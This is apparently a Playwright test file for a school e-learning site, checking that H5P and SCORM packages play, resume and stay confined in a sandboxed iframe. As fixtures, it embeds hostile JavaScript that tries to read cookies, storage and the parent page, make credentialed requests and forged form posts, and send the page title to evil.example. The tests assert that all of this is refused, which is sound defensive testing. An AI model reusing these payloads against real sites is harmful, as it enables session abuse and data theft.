"""Packages are played in a real browser, in a sandbox from which nothing of ours can be reached."""

import json
from collections.abc import Callable
from typing import Any

import pytest
from flask import Flask
from playwright.sync_api import Browser, FrameLocator, Page, expect
from sqlalchemy import select

from core.database import db, transaction
from learning.packages.models import PackageProgress
from learning.records.models import Statement
from learning.records.verbs import Verb
from library.marks.models import Favourite
from library.packages.playable import Standard
from tests.browser.accessibility import assert_accessible, assert_fits
from tests.browser.conftest import DESKTOP, PHONE, OpenPage, SignIn, Site
from tests.factories.accounts import make_class, make_student, make_teacher
from tests.factories.players import PAGE, h5p_bytes, make_package, scorm_bytes

pytestmark = pytest.mark.browser

ATTEMPTS = """
const found = {};
const attempt = async (name, work) => {
  try { found[name] = String(await work()); } catch (error) { found[name] = "refused: " + error.name; }
};
(async () => {
  const origin = location.origin;
  await attempt("origin", () => self.origin);
  await attempt("cookie", () => document.cookie);
  await attempt("parent", () => window.top.document.title);
  await attempt("storage", () => localStorage.length);
  await attempt("read", () => fetch(origin + "/api/v1/account").then((answer) => answer.status));
  const asUser = { credentials: "include" };
  await attempt("write", () => fetch(origin + "/library/RESOURCE/favourite", { method: "POST", ...asUser }));
  await attempt("page", () => fetch(origin + "/home", asUser).then((answer) => answer.text()));
  await attempt("elsewhere", () => fetch("https://evil.example/", { mode: "no-cors" }));
  await attempt("worker", () => navigator.serviceWorker.register("/sw.js"));
  await attempt("popup", () => window.open("/home"));
  await attempt("top", () => { window.top.location = "https://evil.example/"; return "asked"; });
  const form = document.createElement("form");
  form.action = origin + "/library/RESOURCE/favourite"; form.method = "post"; document.body.append(form);
  await attempt("form", () => { form.submit(); return "asked"; });
  document.getElementById("out").textContent = JSON.stringify(found);
})();
window.parent.postMessage({ weike: "kept", values: { "secret": "x" } }, "*");
window.parent.postMessage({ weike: "height", height: 1e12 }, "*");
"""
"""What a hostile page tries; it writes down what came of it."""
FAREWELL = """
const api = find(window);
api.LMSInitialize("");
document.getElementById("out").textContent = "found " + api.LMSGetValue("cmi.suspend_data");
window.addEventListener("pagehide", () => {
  api.LMSSetValue("cmi.suspend_data", "farewell");
  api.LMSFinish("");
});
"""
"""What a page says that speaks only when it is left."""
LEADING = """location.href = "https://evil.example/?" + encodeURIComponent(document.title);"""
"""What takes along what it knows to another place."""
ASK = """(address) =>
  fetch(location.origin + address, { credentials: "include" }).then(() => "answered", () => "refused")"""


class Scene:
    """Packages of a school, and a pupil of it."""

    def __init__(self, site: Site) -> None:
        self.app: Flask = site.app
        with site.app.app_context(), transaction():
            school_class = make_class()
            teacher = make_teacher(school_class)
            self.pupil_id = make_student(school_class).id
            self.h5p_id = make_package(teacher, h5p_bytes()).id
            self.course_id = make_package(teacher, scorm_bytes(), Standard.SCORM_12, "分数课件").id
            self.later_id = make_package(
                teacher, scorm_bytes(version="2004 4th Edition"), Standard.SCORM_2004, "分数课件"
            ).id
            hostile = ATTEMPTS.replace("RESOURCE", str(self.h5p_id))
            self.hostile_id, self.farewell_id, self.leading_id = (
                make_package(
                    teacher,
                    scorm_bytes(files={"course/one.html": PAGE % {"api": "API", "script": script}}),
                    Standard.SCORM_12,
                    "坏课件",
                ).id
                for script in (hostile, FAREWELL, LEADING)
            )

    def statements(self) -> list[Statement]:
        with self.app.app_context():
            return list(db.session.scalars(select(Statement).where(Statement.verb == Verb.COMPLETED)))

    def count(self, model: Any) -> int:  # noqa: ANN401 -- a table
        with self.app.app_context():
            return len(db.session.scalars(select(model)).all())


@pytest.fixture
def scene(site: Site) -> Scene:
    return Scene(site)


def start(page: Page, resource_id: int) -> FrameLocator:
    page.goto(f"/library/{resource_id}")
    page.locator(".package-cover a").click()
    return page.frame_locator("iframe.package-frame")


def becomes(page: Page, true: Callable[[], bool]) -> None:
    """Wait until something is so that the page only told the server."""
    for _ in range(200):
        if true():
            return
        page.wait_for_timeout(50)
    raise AssertionError


@pytest.mark.parametrize("screen", [PHONE, DESKTOP], ids=["phone", "desktop"])
def test_an_h5p_content_is_played_and_its_result_is_shown_as_its_own_word(
    open_page: OpenPage, scene: Scene, sign_in: SignIn, screen: dict[str, int]
) -> None:
    page = open_page(screen)
    sign_in(page, scene.pupil_id)

    inside = start(page, scene.h5p_id)

    expect(inside.locator(".said")).to_have_text("你好 yes")
    page.wait_for_function("() => document.querySelector('iframe').clientHeight < 300")
    assert_fits(page)
    assert_accessible(page)
    inside.locator("button").click()
    expect(page.locator("#package-result")).to_contain_text("75%")
    [told] = scene.statements()
    assert told.result["score"]["scaled"] == 0.75
    assert told.context["extensions"]["https://w3id.org/weike/xapi/extensions/verified"] is False


@pytest.mark.parametrize("name", ["course_id", "later_id"])
def test_a_course_is_told_where_it_stopped_when_it_is_opened_again(
    open_page: OpenPage, scene: Scene, sign_in: SignIn, name: str
) -> None:
    page, resource_id = open_page(DESKTOP), getattr(scene, name)
    sign_in(page, scene.pupil_id)

    inside = start(page, resource_id)

    expect(inside.locator("#out")).to_have_text("visit 1 ab-initio ")
    becomes(page, lambda: scene.count(PackageProgress) == 1)
    inside = start(page, resource_id)
    expect(inside.locator("#out")).to_have_text("visit 2 resume seen:1")
    becomes(page, lambda: len(scene.statements()) == 1)
    page.get_by_role("link", name="第二节").click()
    expect(inside.locator("p")).to_have_text("第二节的正文。")
    expect(page.locator(".package-places [aria-current]")).to_have_text("第二节")
    assert_fits(page)
    assert_accessible(page)


def test_what_a_page_says_when_it_is_left_is_kept(open_page: OpenPage, scene: Scene, sign_in: SignIn) -> None:
    page = open_page(DESKTOP)
    sign_in(page, scene.pupil_id)
    inside = start(page, scene.farewell_id)
    expect(inside.locator("#out")).to_have_text("found ")

    page.get_by_role("link", name="第二节").click()
    expect(inside.locator("p")).to_have_text("第二节的正文。")
    page.get_by_role("link", name="第一节").click()

    expect(inside.locator("#out")).to_have_text("found farewell")


def test_a_hostile_package_reaches_nothing_of_ours(
    browser: Browser, site: Site, scene: Scene, sign_in: SignIn
) -> None:
    # A page of its own: the browser writes down each refusal, which fails a watched page.
    context = browser.new_context(base_url=site.url, viewport={"width": 1280, "height": 900})
    page = context.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(f"{request.method} {request.url}"))
    sign_in(page, scene.pupil_id)

    inside = start(page, scene.hostile_id)
    address, title = page.url, page.title()

    expect(inside.locator("#out")).to_contain_text("{")
    found = json.loads(inside.locator("#out").inner_text())
    assert found.pop("origin") == "null"
    assert found.pop("cookie") == ""
    assert found.pop("storage") == "0"
    assert found.pop("form") == "asked"
    assert found.pop("popup") == "null"
    assert {name: told for name, told in found.items() if not told.startswith("refused")} == {}
    assert (page.url, page.title()) == (address, title)
    expect(page.locator("[data-package-status]")).not_to_be_empty()
    assert page.locator("iframe").evaluate("(frame) => frame.clientHeight") <= 20_000
    assert not [one for one in asked if "evil.example" in one or (one.startswith("POST") and "/play/" in one)]
    assert scene.count(Favourite) == 0
    assert scene.count(PackageProgress) == 0
    context.close()


def test_a_package_leads_its_frame_to_no_other_place(
    browser: Browser, site: Site, scene: Scene, sign_in: SignIn
) -> None:
    context = browser.new_context(base_url=site.url)
    page = context.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    sign_in(page, scene.pupil_id)

    with page.expect_console_message(lambda message: "evil.example" in message.text) as refusal:
        start(page, scene.leading_id)

    assert "Content Security Policy" in refusal.value.text
    assert not [one for one in asked if "evil.example" in one]
    context.close()


def test_a_package_opened_by_its_address_is_in_the_sandbox_too(
    browser: Browser, site: Site, scene: Scene, sign_in: SignIn
) -> None:
    context = browser.new_context(base_url=site.url)
    page = context.new_page()
    sign_in(page, scene.pupil_id)

    page.goto(f"/library/{scene.course_id}/play")

    assert page.evaluate("self.origin") == "null"
    assert page.evaluate("document.cookie") == ""
    for address in ("/home", f"/api/v1/packages/{scene.course_id}/progress"):
        assert page.evaluate(ASK, address) == "refused"
    context.close()
